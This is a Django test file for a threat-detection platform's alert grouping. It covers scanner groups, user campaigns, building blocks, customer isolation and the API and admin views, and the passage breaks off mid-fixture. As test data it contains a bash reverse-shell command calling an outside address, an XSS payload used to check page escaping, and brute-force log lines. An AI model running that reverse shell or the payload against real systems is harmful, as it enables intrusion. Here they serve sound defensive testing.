"""Grouping by entity and campaign (threats/grouping.py, docs/grouping.md), through
`threats.ingest.ingest` and POST /api/ingest with real vendor documents: a scanner is one group per
source address; one user's activity across hosts is one campaign (service and system accounts make
none); building blocks ride on their parent whichever arrives first, and a parent never becomes a
member of its building block's group; two customers never share a group or a campaign. Also the
campaign in the API, the pages and the admin, and `grouping.identity`."""

import json
from pathlib import Path

import pytest
from django.db import IntegrityError, transaction
from django.test import TestCase

from agents.models import AgentRun
from tests import factories
from threats import apikeys, grouping, ingest
from threats.choices import AnalysisStatus, EventType
from threats.importers import ecs
from threats.models import Campaign, CampaignLink, Threat, ThreatEvent, ThreatGroup

pytestmark = pytest.mark.django_db
FIXTURES = Path(__file__).parent / "fixtures" / "alerts"
NDJSON = "application/x-ndjson"
SCANNER, OTHER_SCANNER, INTERNAL_HOST = "203.0.113.66", "198.51.100.77", "10.0.3.9"


@pytest.fixture
def finance(db):
    return factories.make_customer(name="Global Finance", slug="global-finance")


@pytest.fixture
def healthcare(db):
    return factories.make_customer(name="HealthCare Plus", slug="healthcare-plus")


def lines(name):
    return (FIXTURES / name).read_bytes().splitlines(keepends=True)


def run(source, data, **options):
    """Ingest like the API does, running the on-commit work (broadcast, analysis) as a commit would."""
    options.setdefault("actor_label", "test")
    body = data if isinstance(data, bytes) else b"".join(data)
    with TestCase.captureOnCommitCallbacks(execute=True):
        return ingest.ingest(source, ingest.decode_body(body, NDJSON), **options)


def post(client, fmt, data, key):
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(f"/api/ingest/{fmt}", b"".join(data), content_type=NDJSON, HTTP_X_API_KEY=key)
    assert response.status_code == 202, response.content
    return response.json()["items"]


def analysed(threats):
    return set(AgentRun.objects.filter(threat__in=threats).values_list("threat_id", flat=True))


def the_threat(**observables):
    matches = [t for t in Threat.objects.all() if all(t.observables.get(k) == v for k, v in observables.items())]
    assert len(matches) == 1, matches
    return matches[0]


# --- A scanner is one group per source ------------------------------------------------------------------


@pytest.fixture
def scans(finance, healthcare, settings):
    """tests/fixtures/alerts/suricata_scan.ndjson: 203.0.113.66 runs three ET SCAN signatures over
    five of Global Finance's hosts and tries one XSS; 198.51.100.77 scans two hosts; an internal host sweeps
    two; 203.0.113.66 also scans two of HealthCare Plus's hosts (seen by HealthCare Plus's sensor)."""
    settings.INGEST_HOST_CUSTOMERS = "sensor-acme-*=global-finance,sensor-globex-*=healthcare-plus"
    results = run("suricata", lines("suricata_scan.ndjson"))
    assert ingest.summary(results) == {"created": 22, "duplicates": 0, "skipped": 0, "errors": 0}
    return results


def test_a_scanner_over_five_destinations_and_three_signatures_is_one_group(scans, finance):
    scanner = Threat.objects.filter(customer=finance, observables__src_ip=SCANNER, threat_type__contains="leak") | \
        Threat.objects.filter(customer=finance, observables__src_ip=SCANNER, threat_type__contains="bad_traffic")
    assert scanner.count() == 15
    assert {(t.observables["dst_ip"], t.rule) for t in scanner} == {
        (f"10.0.1.{d}", f"sid:1:{sid}") for d in range(10, 15) for sid in (2001219, 2010935, 2010937)}
    group = ThreatGroup.objects.get(customer=finance, key=f"scan|{SCANNER}")
    assert set(scanner.values_list("group", flat=True)) == {group.pk} and group.member_count == 15
    # one analysis for the scan; the other fourteen share it (a higher vendor severity did not split it)
    assert analysed(scanner) == {group.head_id}
    assert scanner.filter(analysis_status=AnalysisStatus.GROUPED).count() == 14
    assert group.worst_severity_hint == "MEDIUM" and set(scanner.values_list("severity_hint", flat=True)) == {
        "LOW", "MEDIUM"}


def test_a_web_attack_from_the_scanners_address_is_not_in_its_group(scans, finance):
    xss = Threat.objects.get(customer=finance, rule="sid:1:2009714")
    assert xss.group.key == f"sid:1:2009714|{SCANNER}>10.0.1.15" and xss.group.head_id == xss.pk
    assert xss.analysis_status == AnalysisStatus.COMPLETED


def test_each_external_scanner_has_its_own_group_and_an_internal_sweep_stays_per_target(scans, finance):
    other = Threat.objects.filter(customer=finance, observables__src_ip=OTHER_SCANNER)
    assert {t.group.key for t in other} == {f"scan|{OTHER_SCANNER}"} and other.count() == 2
    internal = Threat.objects.filter(customer=finance, observables__src_ip=INTERNAL_HOST)
    assert {t.group.key for t in internal} == {f"sid:1:2001219|{INTERNAL_HOST}>10.0.1.10",
                                               f"sid:1:2001219|{INTERNAL_HOST}>10.0.1.11"}


def test_a_later_batch_from_the_scanner_joins_its_group(scans, finance):
    later = json.loads(lines("suricata_scan.ndjson")[0])
    later.update(flow_id=1, timestamp="2026-11-20T13:20:00.000000+0000", dest_ip="10.0.1.99", dest_port=5432)
    results = run("suricata", json.dumps(later).encode() + b"\n")
    assert results[0].group_head is False and results[0].analysis_status == AnalysisStatus.GROUPED
    assert results[0].group_id == ThreatGroup.objects.get(customer=finance, key=f"scan|{SCANNER}").pk


# --- One user's activity across hosts is one campaign ---------------------------------------------------


@pytest.fixture
def logons(client, finance, healthcare):
    """tests/fixtures/alerts/wazuh_logons.ndjson through POST /api/ingest/wazuh (Windows event 4624):
    alice on WS-01, WS-02 and SRV-FILE-01 within 15 minutes, again on WS-01, and on WS-04 hours
    later; bob on WS-03; SYSTEM and the machine account WS-02$; alice of HealthCare Plus on GX-WS-01."""
    key = apikeys.issue("wazuh shipper", ["ingest"])[1]
    items = post(client, "wazuh", lines("wazuh_logons.ndjson"), key)
    assert [item["status"] for item in items] == ["created"] * 9
    return items


def test_a_users_logons_on_three_hosts_within_the_window_are_one_campaign(logons, finance):
    alice = Threat.objects.filter(customer=finance, observables__user="alice", occurred_at__hour=9)
    assert sorted(t.observables["host"] for t in alice) == ["SRV-FILE-01", "WS-01", "WS-01", "WS-02"]
    campaign = Campaign.objects.filter(customer=finance, key="user:alice", threats__in=alice.values("pk")).distinct().get()
    assert set(alice.values_list("campaign", flat=True)) == {campaign.pk}
    assert (campaign.title, campaign.threat_count) == ("Activity of user alice", 4)
    assert campaign.first_seen == min(t.occurred_at for t in alice)
    assert campaign.last_seen == max(t.occurred_at for t in alice)
    # members of a campaign are analysed each; the repeat on WS-01 is a duplicate and rides on its head
    heads = alice.exclude(analysis_status=AnalysisStatus.GROUPED)
    assert heads.count() == 3 and analysed(alice) == set(heads.values_list("pk", flat=True))
    assert {item["campaign_id"] for item in logons[:4]} == {campaign.pk}


def test_another_user_is_another_campaign_and_later_activity_a_new_one(logons, finance):
    alice = Campaign.objects.get(customer=finance, key="user:alice", threats__observables__host="WS-02")
    bob = the_threat(user="bob")
    assert bob.campaign.key == "user:bob" and bob.campaign != alice and bob.campaign.threat_count == 1
    hours_later = the_threat(host="WS-04")
    assert hours_later.campaign.key == "user:alice" and hours_later.campaign != alice


def test_system_and_machine_accounts_make_no_campaign(logons):
    assert the_threat(user="SYSTEM").campaign is None
    assert the_threat(user="WS-02$").campaign is None
    assert not Campaign.objects.filter(key__in=["user:system", "user:ws-02$"]).exists()
    assert "campaign_id" not in logons[5] and "campaign_id" not in logons[6]


@pytest.mark.parametrize("name, expected", [
    ("alice", "alice"), ("ACME\\Alice", "alice"), ("CN=Alice Smith,OU=Staff,DC=acme,DC=example", "alice smith"),
    ("alice@acme.example", "alice@acme.example"),
    ("SYSTEM", ""), ("NT AUTHORITY\\SYSTEM", ""), ("NT AUTHORITY\\NETWORK SERVICE", ""), ("LOCAL SERVICE", ""),
    ("ANONYMOUS LOGON", ""), ("DWM-3", ""), ("UMFD-0", ""), ("IIS APPPOOL\\DefaultAppPool", ""),
    ("NT SERVICE\\MSSQLSERVER", ""), ("WS-02$", ""), ("ACME\\WS-02$", ""), ("root", ""), ("Administrator", ""),
    ("admin", ""),
    ("guest", ""), ("www-data", ""), ("nobody", ""), ("-", ""), ("N/A", ""), ("", ""), ("   ", ""), ("unknown", ""),
])
def test_only_a_persons_account_names_a_campaign(name, expected):
    assert grouping.person(name) == expected


def test_a_group_name_is_not_taken_for_a_user():
    """Wazuh puts the group's name in targetUserName for a group-membership event (4732)."""
    added = json.loads(lines("wazuh_logons.ndjson")[0])
    added["data"]["win"]["system"]["eventID"] = "4732"
    added["data"]["win"]["eventdata"].update(targetUserName="Administrators", memberName="CN=Eve,OU=Staff,DC=acme")
    from threats.importers import wazuh

    alert = wazuh.parse(added)
    assert alert.observables["user"] == "Administrators"
    assert grouping.campaign_user(alert) == ("eve", "CN=Eve,OU=Staff,DC=acme")


def test_an_account_whose_group_bears_its_name_is_still_a_user():
    """useradd makes a private group of the same name: that is no membership change."""
    from threats.importers import generic

    created = generic.parse({"id": "u-1", "title": "Linux user created", "occurred_at": "2026-11-20T10:00:00Z",
                             "observables": {"user": "sysbackup", "host": "build-02"}, "group": {"name": "sysbackup"},
                             "event": {"category": ["iam"], "type": ["user", "creation"]}})
    assert created.signal["account"]["group"] == "sysbackup"
    assert grouping.campaign_user(created) == ("sysbackup", "sysbackup")


def test_a_zero_campaign_window_links_nothing(client, finance, healthcare, settings):
    settings.INGEST_CAMPAIGN_WINDOW_SECONDS = 0
    post(client, "wazuh", lines("wazuh_logons.ndjson"), apikeys.issue("shipper", ["ingest"])[1])
    assert not Campaign.objects.exists() and not Threat.objects.filter(campaign__isnull=False).exists()


def test_the_campaign_window_is_read_strictly_from_the_environment():
    from tests.test_settings import PRODUCTION, load_settings

    read = load_settings("settings.INGEST_CAMPAIGN_WINDOW_SECONDS", **PRODUCTION, INGEST_CAMPAIGN_WINDOW_SECONDS="600")
    assert json.loads(read.stdout) == 600
    assert json.loads(load_settings("settings.INGEST_CAMPAIGN_WINDOW_SECONDS", **PRODUCTION).stdout) == 3600
    refused = load_settings(**PRODUCTION, INGEST_CAMPAIGN_WINDOW_SECONDS="-1")
    assert refused.returncode != 0 and "INGEST_CAMPAIGN_WINDOW_SECONDS" in refused.stderr


# --- Two customers never share a group or a campaign ------------------------------------------------------


def test_two_customers_never_share_a_group_or_a_campaign(scans, logons, finance, healthcare):
    for group in ThreatGroup.objects.all():
        assert set(group.members.values_list("customer", flat=True)) == {group.customer_id}, group.key
    for campaign in Campaign.objects.all():
        assert set(campaign.threats.values_list("customer", flat=True)) == {campaign.customer_id}, campaign.key
    assert ThreatGroup.objects.filter(key=f"scan|{SCANNER}").count() == 2  # one for each customer
    gx = the_threat(host="GX-WS-01")
    assert gx.customer == healthcare and gx.campaign.key == "user:alice" and gx.campaign.customer == healthcare


# --- Building blocks ride on their parent -----------------------------------------------------------------


SEQUENCE = "ecs_building_blocks.ndjson"  # an EQL sequence: three building blocks, then the shell alert


@pytest.fixture
def blocks_and_shell():
    found = lines(SEQUENCE)
    return found[:3], found[3:]


def sequence_threats():
    shell = Threat.objects.get(signal__kind="alert")
    blocks = Threat.objects.filter(signal__kind="building_block").order_by("occurred_at")
    assert blocks.count() == 3
    return shell, list(blocks)


def assert_the_parent_heads_its_building_blocks():
    shell, blocks = sequence_threats()
    assert shell.group.head_id == shell.pk and shell.analysis_status == AnalysisStatus.COMPLETED
    assert not shell.group.key.startswith("bb|")
    assert {b.group_id for b in blocks} == {shell.group_id} and shell.group.member_count == 4
    assert {b.analysis_status for b in blocks} == {AnalysisStatus.GROUPED}
    assert not ThreatGroup.objects.filter(key__startswith="bb|").exists()
    # one identity for the four: the user's campaign, shared by the shell and its building blocks
    assert {grouping.identity(t) for t in [shell, *blocks]} == {f"campaign:{shell.campaign_id}"}
    assert shell.campaign.key == "user:a.novak" and shell.campaign.threat_count == 4
    return shell, blocks


def test_building_blocks_then_their_parent_the_parent_heads_and_adopts_them(finance, blocks_and_shell):
    blocks, shell = blocks_and_shell
    first = run("ecs", blocks, default_customer=finance)
    assert [r.group_head for r in first] == [True, False, False]  # waiting: the first one is analysed
    later = run("ecs", shell, default_customer=finance)
    assert later[0].group_head is True and later[0].analysis_status == AnalysisStatus.QUEUED
    shell, blocks = assert_the_parent_heads_its_building_blocks()
    assert analysed(blocks) == {blocks[0].pk}  # analysed while it waited; its verdict stays on the record
    moved = ThreatEvent.objects.filter(type=EventType.UPDATED, threat__in=blocks)
    assert moved.count() == 3 and {e.actor_label for e in moved} == {"test"}
    first_block = moved.get(threat=blocks[0]).payload
    assert first_block["changes"]["analysis_status"] == {"from": "completed", "to": "grouped"}
    assert first_block["changes"]["group_id"]["to"] == shell.group_id
    assert first_block["threat"]["analysis_status"] == "grouped"


def test_a_parent_then_its_building_blocks_end_the_same_way(finance, blocks_and_shell):
    blocks, shell = blocks_and_shell
    run("ecs", shell, default_customer=finance)
    results = run("ecs", blocks, default_customer=finance)
    assert [(r.group_head, r.analysis_status) for r in results] == [(False, AnalysisStatus.GROUPED)] * 3
    shell, blocks = assert_the_parent_heads_its_building_blocks()
    assert not analysed(blocks)  # never analysed: they rode on their parent from the start


def test_a_building_block_adopted_while_its_analysis_waits_in_the_queue_is_not_analysed(finance, blocks_and_shell):
    blocks, shell = blocks_and_shell
    with TestCase.captureOnCommitCallbacks() as queued:  # the first one's analysis task waits for a worker
        ingest.ingest("ecs", ingest.decode_body(b"".join(blocks), NDJSON), actor_label="test", default_customer=finance)
    run("ecs", shell, default_customer=finance)
    for callback in queued:
        callback()  # the worker gets to it after the parent adopted it
    shell, blocks = assert_the_parent_heads_its_building_blocks()
    assert not analysed(blocks)


def test_building_blocks_and_their_parent_in_one_batch_end_the_same_way(finance, blocks_and_shell):
    blocks, shell = blocks_and_shell
    results = run("ecs", [*blocks, *shell], default_customer=finance)  # the order Kibana writes them
    assert [r.group_head for r in results] == [False, False, False, True]
    assert len({r.group_id for r in results}) == 1
    shell, blocks = assert_the_parent_heads_its_building_blocks()
    assert not analysed(blocks) and not ThreatEvent.objects.filter(type=EventType.UPDATED).exists()


def test_a_building_block_whose_parent_never_comes_is_stored_visible_and_analysed(finance, alice_client,
                                                                                     blocks_and_shell):
    blocks, _ = blocks_and_shell
    results = run("ecs", blocks, default_customer=finance)
    stored = Threat.objects.filter(signal__kind="building_block").order_by("occurred_at")
    head = stored[0]
    assert head.analysis_status == AnalysisStatus.COMPLETED and head.severity
    assert head.group.key.startswith("bb|") and {t.group_id for t in stored} == {head.group_id}
    listed = {item["id"] for item in alice_client.get("/api/threats").json()["items"]}
    assert {r.id for r in results} <= listed


def test_a_building_block_whose_parent_is_stored_joins_its_group_even_after_the_group_window(finance, settings,
                                                                                              blocks_and_shell):
    """The parent names it explicitly: no window to fit, only a head to analyse it."""
    blocks, shell = blocks_and_shell
    run("ecs", shell, default_customer=finance)
    late = json.loads(blocks[2])
    late["kibana.alert.original_time"] = "2026-11-20T11:30:00.000Z"  # far outside the group window
    results = run("ecs", json.dumps(late).encode(), default_customer=finance)
    assert results[0].group_id == Threat.objects.get(signal__kind="alert").group_id


def test_the_alert_by_alert_path_groups_building_blocks_the_same_way(finance):
    """When a bulk insert meets a row stored by another writer, the chunk is redone alert by alert
    (threats/ingest.py): building blocks stored a moment earlier in the same chunk are adopted."""
    theirs = factories.make_threat(customer=finance, analyse=False, source="ecs", source_ref="stored-elsewhere")
    clash = {"@timestamp": "2026-11-20T08:05:00Z", "kibana.alert.uuid": "stored-elsewhere",
             "kibana.alert.rule.name": "Another rule", "host": {"name": "WS-OTHER"}}
    docs = [clash, *(json.loads(line) for line in lines(SEQUENCE))]
    mapped = [(ingest.Record(n), ecs.parse(doc), finance, []) for n, doc in enumerate(docs)]
    batch, results = ingest._Batch("ecs", ingest.services.SYSTEM), {}
    with pytest.raises(IntegrityError), transaction.atomic():
        batch._store(mapped, results, known={}, one_by_one=False)  # as if looked up before theirs
    with TestCase.captureOnCommitCallbacks(execute=True):
        batch._store(mapped, results, known={}, one_by_one=True)
    assert (results[0].status, results[0].id) == ("duplicate", str(theirs.pk))
    shell, blocks = assert_the_parent_heads_its_building_blocks()
    assert not analysed(blocks)  # queued when stored, grouped before the commit: no worker took it


def test_on_postgresql_the_look_up_of_a_stored_parent_reads_the_partial_index(finance, blocks_and_shell):
    """Migration 0012's threat_with_ancestors: without it, each batch with a building block would
    read every threat of the customer in the window."""
    from django.db import connection

    if connection.vendor != "postgresql":
        pytest.skip("a PostgreSQL partial index (SQLite, the one-machine mode, reads the window)")
    blocks, _ = blocks_and_shell
    statements = []

    def record(execute, sql, params, many, context):
        statements.append((sql, params))
        return execute(sql, params, many, context)

    with connection.execute_wrapper(record):
        grouping.Grouper("ecs", 3600, 3600).load([(ecs.parse(json.loads(blocks[0])), finance)])
    sql, params = next((sql, params) for sql, params in statements if "ancestors" in sql)
    with transaction.atomic(), connection.cursor() as cursor:
        cursor.execute("SET LOCAL enable_seqscan = off")  # a tiny test table: may the index serve?
        cursor.execute("EXPLAIN " + sql, params)
        plan = "\n".join(row[0] for row in cursor.fetchall())
    assert "threat_with_ancestors" in plan, plan


def test_two_customers_building_blocks_never_ride_on_each_others_parent(finance, healthcare, blocks_and_shell):
    blocks, shell = blocks_and_shell
    run("ecs", shell, default_customer=finance)
    renamed = [line.replace(b'"kibana.alert.uuid":"', b'"kibana.alert.uuid":"gx') for line in blocks]
    results = run("ecs", renamed, default_customer=healthcare)
    assert [r.group_head for r in results] == [True, False, False]
    finance_group = Threat.objects.get(customer=finance, signal__kind="alert").group_id
    assert finance_group not in {r.group_id for r in results}


# --- The campaign in the API, the pages and the admin ----------------------------------------------------


def test_the_api_shows_a_threats_campaign_and_filters_the_list_by_it(logons, alice_client, finance):
    alice = the_threat(host="WS-02")
    detail = alice_client.get(f"/api/threats/{alice.pk}").json()
    campaign = alice.campaign
    assert detail["campaign"] == {"id": campaign.pk, "key": "user:alice", "title": "Activity of user alice",
                                  "threat_count": 4}
    items = alice_client.get("/api/threats", {"limit": 100}).json()["items"]
    assert {i["id"]: i["campaign"] for i in items}[str(alice.pk)] == campaign.pk
    assert {i["id"]: i["campaign"] for i in items}[str(the_threat(user="SYSTEM").pk)] is None
    only = alice_client.get("/api/threats", {"campaign": campaign.pk}).json()["items"]
    assert sorted(i["id"] for i in only) == sorted(str(pk) for pk in campaign.threats.values_list("pk", flat=True))
    assert alice_client.get("/api/threats", {"campaign": "x"}).status_code == 400
    assert alice_client.get(f"/api/threats/{the_threat(user='SYSTEM').pk}").json()["campaign"] is None


def test_the_openapi_schema_documents_the_campaign(client):
    schema = client.get("/api/openapi.json").json()
    components = schema["components"]["schemas"]
    assert "campaign" in components["ThreatSummary"]["properties"]
    assert components["CampaignRef"]["required"] == ["id", "key", "title", "threat_count"]
    parameters = schema["paths"]["/api/threats"]["get"]["parameters"]
    assert "campaign" in {p["name"] for p in parameters}


def test_the_detail_page_links_to_the_other_threats_of_the_campaign(logons, alice_client):
    alice = the_threat(host="WS-02")
    page = alice_client.get(f"/threats/{alice.pk}/").content.decode()
    assert f'href="/threats/?campaign={alice.campaign_id}">Activity of user alice</a> · 4 threats' in page
    listed = alice_client.get("/threats/", {"campaign": alice.campaign_id}).content.decode()
    assert listed.count('class="threat-row') == 4 and f"campaign #{alice.campaign_id}" in listed
    system = alice_client.get(f"/threats/{the_threat(user='SYSTEM').pk}/").content.decode()
    assert 'id="campaign"' not in system


def test_a_campaign_title_from_an_alert_is_escaped_on_the_page(finance, alice_client):
    hostile = {"id": "h-1", "title": "Login", "occurred_at": "2026-11-20T10:00:00Z", "customer": "global-finance",
               "observables": {"user": "<img src=x onerror=alert(1)>"}}
    result = run("generic", json.dumps(hostile).encode())[0]
    page = alice_client.get(f"/threats/{result.id}/").content.decode()
    assert "<img src=x" not in page and "Activity of user &lt;img src=x onerror=alert(1)&gt;" in page


def test_campaigns_are_read_only_and_scoped_in_the_admin(logons, client, django_user_model, finance, healthcare):
    from django.contrib.auth.models import Permission

    from threats.models import UserAccess

    admin_user = django_user_model.objects.create_superuser("root-admin", password="pw")
    client.force_login(admin_user)
    listing = client.get("/admin/threats/campaign/").content.decode()
    assert "Activity of user alice" in listing and "Activity of user bob" in listing
    campaign = Campaign.objects.get(customer=finance, key="user:bob")
    assert client.get("/admin/threats/campaign/add/").status_code == 403
    change = client.get(f"/admin/threats/campaign/{campaign.pk}/change/")
    assert change.status_code == 200 and 'name="title"' not in change.content.decode()  # read-only view
    members = client.get("/admin/threats/threat/", {"campaign__id__exact": campaign.pk})
    assert members.status_code == 200 and "Windows Logon Success" in members.content.decode()
    scoped = django_user_model.objects.create_user("healthcare-admin", password="pw", is_staff=True)
    scoped.user_permissions.add(Permission.objects.get(codename="view_campaign"))
    UserAccess.objects.create(user=scoped).customers.set([healthcare])
    client.force_login(scoped)
    titles = client.get("/admin/threats/campaign/").content.decode()
    assert titles.count("Activity of user alice") == 1 and "Activity of user bob" not in titles


# --- Campaigns by attacker and host: every key of a campaign's alerts finds it -----------------------------


def _alert(ref, minute, category, **observables):
    """One alert of our generic format at 10:<minute> (its category names the behaviour)."""
    return json.dumps({"id": ref, "title": category, "category": category, "customer": "global-finance",
                       "occurred_at": f"2026-11-20T10:{minute:02d}:00Z", "observables": observables}).encode()


def _campaign_of(ref):
    return Threat.objects.get(source_ref=ref).campaign


def test_a_spray_from_one_address_over_several_users_is_one_campaign(finance):
    """The first victim's alert starts a campaign by its user; its address (and host) then find it too."""
    run("generic", b"\n".join([
        _alert("spray-1", 0, "login failure", user="j.morgan", src_ip="198.51.100.77", host="RDS01"),
        _alert("spray-2", 2, "login failure", user="a.chen", src_ip="198.51.100.77", host="RDS01"),
    ]))
    run("generic", _alert("spray-3", 5, "login", user="svc_backup", src_ip="198.51.100.77", host="RDS01"))
    first = _campaign_of("spray-1")
    assert first.key == "user:j.morgan" and _campaign_of("spray-2") == first and _campaign_of("spray-3") == first
    assert set(first.links.values_list("key", flat=True)) == {"user:j.morgan", "source:198.51.100.77", "user:a.chen",
                                                             "user:svc_backup"}


def test_a_routine_logon_links_only_its_person_and_an_attempt_from_outside_not_its_target(finance):
    """The hosts a user logs on to are not thereby part of that user's story; a host an outsider only
    tried is its target, not its story: a second scanner of the host is a matter of its own."""
    run("generic", _alert("logon-1", 0, "login", user="alice", host="WS-01"))
    run("generic", _alert("account-1", 3, "account created", user="backdoor", host="WS-01"))
    assert _campaign_of("account-1") != _campaign_of("logon-1")
    run("generic", _alert("scan-a", 10, "port scan", src_ip="198.51.100.240", dst_ip="10.14.8.10"))
    run("generic", _alert("scan-b", 11, "port scan", src_ip="203.0.113.19", dst_ip="10.14.8.10"))
    assert _campaign_of("scan-a").key == "source:198.51.100.240"
    assert _campaign_of("scan-b").key == "source:203.0.113.19"
    assert not _campaign_of("scan-a").links.filter(key__startswith="host:").exists()


def test_a_flood_from_many_reflectors_is_one_campaign_of_its_target(finance):
    run("generic", b"\n".join(_alert(f"flood-{i}", i, "udp flood", src_ip=source, dst_ip="10.12.1.10")
                               for i, source in enumerate(("198.51.100.71", "203.0.113.12", "192.0.2.190"))))
    assert len({_campaign_of(f"flood-{i}") for i in range(3)}) == 1


@pytest.mark.parametrize("severity,linked", [("high", True), ("low", False)])
def test_an_alert_whose_behaviour_no_field_names_is_activity_when_rated_medium_or_more(finance, severity, linked):
    """Two rules on one host (a script's detection, then the tampering it did): a HIGH alert we cannot
    classify is still activity there; a LOW one is information, as before."""
    first = json.loads(_alert("unnamed-1", 0, "", host="WS-0193"))
    run("generic", json.dumps({**first, "title": "Rule 92008 fired", "category": None, "severity": severity}).encode())
    run("generic", _alert("tamper-1", 1, "tamper", host="WS-0193"))
    assert (_campaign_of("unnamed-1") == _campaign_of("tamper-1")) is linked
    assert (_campaign_of("unnamed-1") is not None) is linked


def test_an_esql_okta_spray_is_keyed_by_the_client_address_it_grouped_by(finance):
    """An ES|QL alert keeps its BY column (okta.client.ip), not source.ip: it is the spray's source,
    so the sign-in that follows from that address joins the spray's campaign."""
    spray = {"@timestamp": "2026-11-20T10:00:00Z", "event.kind": "signal", "kibana.alert.uuid": "spray-okta",
             "kibana.alert.rule.name": "Potential Okta Password Spray (Single Source)", "kibana.alert.severity": "medium",
             "okta.client.ip": "203.0.113.161", "Esql.unique_users": 12}
    login = {"@timestamp": "2026-11-20T10:05:00Z", "event.kind": "signal", "kibana.alert.uuid": "login-okta",
             "kibana.alert.rule.name": "Okta sign-in", "kibana.alert.severity": "low",
             "event": {"category": ["authentication"], "type": ["start"], "outcome": "success",
                       "action": "user.session.start"},
             "source": {"ip": "203.0.113.161"}, "user": {"name": "r.okafor@finance.example"}}
    run("ecs", json.dumps(spray).encode(), default_customer=finance)
    run("ecs", json.dumps(login).encode(), default_customer=finance)
    sprayed = Threat.objects.get(source_ref="spray-okta")
    assert sprayed.observables["src_ip"] == "203.0.113.161"
    assert sprayed.campaign is not None and _campaign_of("login-okta") == sprayed.campaign


def test_a_campaign_link_is_the_customer_s_own(finance, healthcare):
    """The same attacker against two customers: two campaigns, each found only by its own customer's keys."""
    run("generic", _alert("x-1", 0, "login failure", user="eve", src_ip="198.51.100.9"))
    run("generic", json.dumps({**json.loads(_alert("x-2", 1, "login failure", user="mallory", src_ip="198.51.100.9")),
                               "customer": "healthcare-plus"}).encode())
    assert _campaign_of("x-1").customer == finance and _campaign_of("x-2").customer == healthcare
    assert _campaign_of("x-1") != _campaign_of("x-2")
    assert set(CampaignLink.objects.filter(campaign=_campaign_of("x-2")).values_list("customer", flat=True)) == {
        healthcare.pk}


# --- The grouping identity the evaluation reads ---------------------------------------------------------


def test_identity_is_the_campaign_else_the_group_else_the_threat(scans, finance):
    scan = Threat.objects.filter(observables__src_ip=SCANNER, customer=finance).exclude(rule="sid:1:2009714").first()
    head = Threat.objects.get(pk=scan.group.head_id)
    # The scanner's group heads a campaign of its address (a later attack from it joins): that is the identity.
    assert head.campaign.key == f"source:{SCANNER}" and grouping.identity(scan) == f"campaign:{head.campaign_id}"
    member = Threat.objects.filter(group=scan.group).exclude(pk=head.pk).first()
    assert grouping.identity(member) == grouping.identity(scan)
    unlinked = factories.make_threat(customer=finance, analyse=False)
    unlinked.group = scan.group
    assert grouping.identity(unlinked) == f"group:{scan.group_id}"
    lone = factories.make_threat(customer=finance, analyse=False)
    assert grouping.identity(lone) == f"threat:{lone.pk}"
    lone.campaign = Campaign.objects.create(customer=finance, key="user:zed", title="z", first_seen=lone.occurred_at,
                                            last_seen=lone.occurred_at)
    assert grouping.identity(lone) == f"campaign:{lone.campaign.pk}"


def _wazuh(ref, minute, rule_id, level, description, groups, host, mitre=(), before="", **data):
    return json.dumps({"timestamp": f"2026-11-20T10:{minute:02d}:00.000+0000", "id": ref,
                       "agent": {"id": "4", "name": host},
                       "rule": {"level": level, "id": rule_id, "description": description, "groups": groups,
                                "mitre": {"id": list(mitre)}},
                       "data": data, **({"previous_output": before} if before else {})}).encode()


FAILED = "".join(f"Nov 20 09:5{i} bastion-01 sshd[41{i}]: Failed password for deploy from 198.51.100.73 port 4{i}22 ssh2\n"
                 for i in range(4))


@pytest.mark.parametrize("landed", [True, False])
def test_guessing_that_ends_in_a_logon_puts_the_attacker_on_the_host(finance, landed):
    """An outsider's guessing makes a host its target only; once it ends in a logon (Wazuh 40112) the
    attacker is on the host, and the account created there minutes later is part of the same story."""
    if landed:
        guess = _wazuh("guess", 0, "40112", 12, "Multiple authentication failures followed by a success.",
                       ["syslog", "attacks", "authentication_success"], "bastion-01", mitre=("T1078", "T1110"),
                       before=FAILED,
                       srcip="198.51.100.73", dstuser="deploy")
    else:
        guess = _wazuh("guess", 0, "5763", 10, "sshd: brute force trying to get access to the system.",
                       ["syslog", "sshd", "authentication_failures"], "bastion-01", mitre=("T1110",),
                       srcip="198.51.100.73", dstuser="deploy")
    run("wazuh", guess, default_customer=finance)
    run("wazuh", _wazuh("backdoor", 3, "5902", 8, "New user added to the system.", ["syslog", "adduser"],
                        "bastion-01", dstuser="systemd-netd"), default_customer=finance)
    assert (_campaign_of("backdoor") == _campaign_of("guess")) is landed


def test_a_command_run_as_root_by_a_person_is_that_person_s_activity(finance):
    """sudo to root names root as the target; the person who ran it is the actor, and the campaign is theirs."""
    login = {"timestamp": "2026-11-20T10:00:00.000+0000", "id": "sudo-login", "agent": {"id": "4", "name": "rpt-db"},
             "rule": {"level": 3, "id": "5715", "description": "sshd: authentication success.",
                      "groups": ["syslog", "sshd", "authentication_success"]},
             "data": {"srcip": "10.30.7.88", "dstuser": "svc-report"}}
    sudo = {"timestamp": "2026-11-20T10:03:00.000+0000", "id": "sudo-root", "agent": {"id": "4", "name": "rpt-db"},
            "rule": {"level": 3, "id": "5402", "description": "Successful sudo to ROOT executed.",
                     "groups": ["syslog", "sudo"]},
            "data": {"srcuser": "svc-report", "dstuser": "root", "command": "/bin/sh -c id"}}
    run("wazuh", json.dumps(login).encode(), default_customer=finance)
    run("wazuh", json.dumps(sudo).encode(), default_customer=finance)
    assert _campaign_of("sudo-root") is not None and _campaign_of("sudo-root") == _campaign_of("sudo-login")


def test_a_command_line_is_activity_on_its_host_whatever_its_rating(finance):
    """An audit record of a command (no behaviour named, rated low) is execution on the host, not
    information: the persistence found on that host a few minutes later joins it."""
    first = json.loads(_alert("exec-1", 0, "", host="wp-01", command_line="bash -c 'bash -i >& /dev/tcp/203.0.113.45/443 0>&1'"))
    run("generic", json.dumps({**first, "title": "Audit: Command: /usr/bin/bash", "category": None,
                               "severity": "low"}).encode())
    run("generic", _alert("cron-1", 5, "persistence", host="wp-01"))
    assert _campaign_of("exec-1") is not None and _campaign_of("exec-1") == _campaign_of("cron-1")


def test_an_hourly_repeat_stays_in_its_group_under_the_default_window(finance, settings):
    """Five hours by default (Microsoft Sentinel's alert-grouping default): a beacon or a job that fires
    every hour is one group, not one a run."""
    from django.conf import settings as configured

    assert configured.INGEST_GROUP_WINDOW_SECONDS == 5 * 3600
    beacon = {"timestamp": "2026-11-20T01:05:12.000+0000", "src_ip": "10.30.44.91", "dest_ip": "203.0.113.150",
              "src_port": 61733, "dest_port": 443, "proto": "TCP", "event_type": "alert",
              "alert": {"action": "allowed", "signature_id": 2027082, "severity": 1, "category": "A Network Trojan was detected",
